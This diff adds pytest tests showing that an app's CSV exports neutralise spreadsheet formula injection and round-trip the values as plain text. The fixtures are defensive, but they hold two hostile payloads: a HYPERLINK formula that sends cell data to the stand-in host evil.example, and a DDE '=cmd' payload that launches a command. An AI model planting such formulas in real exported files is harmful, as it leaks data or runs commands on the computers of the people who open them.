@@ -86,3 +86,43 @@ def test_an_invalid_row_imports_nothing(app, signed_in):
         assert db.session.scalar(select(Resource.id)) is None
     assert upload(admin, "r.json", "{not json").status_code == 400
     assert upload(admin, "r.csv", "name\nonly names\n").status_code == 400
+
+
+def test_csv_exports_neutralise_formulas_and_import_them_back_as_text(app, signed_in):
+    seeded(app)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with app.app_context():
+        resource = db.session.scalars(select(Resource).order_by(Resource.id)).first()
+        resource.name, resource.phone, resource.hours = formula, "+1 555 0100", "@sum(1)"
+        resource_id = resource.id
+        db.session.commit()
+    admin = signed_in("admin")
+    text = admin.get("/admin/resources/export.csv").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@")), value
+    row = next(r for r in rows if r["id"] == str(resource_id))
+    assert row["name"] == "'" + formula and row["phone"] == "'+1 555 0100"
+    assert upload(admin, "resources.csv", text).status_code == 302
+    with app.app_context():  # the round trip gives the same text back
+        resource = db.session.get(Resource, resource_id)
+        assert (resource.name, resource.phone, resource.hours) == (
+            formula,
+            "+1 555 0100",
+            "@sum(1)",
+        )
+
+
+def test_the_audit_export_neutralises_formulas(app, signed_in):
+    from webhooks.services import audit
+
+    with app.app_context():
+        audit.record("=cmd|' /C calc'!A0", "-danger", None, note="+x")
+        db.session.commit()
+    supervisor = signed_in("supervisor")
+    text = supervisor.get("/console/audit/export.csv").get_data(as_text=True)
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@")), cell
+    assert "'=cmd" in text and "'-danger" in text
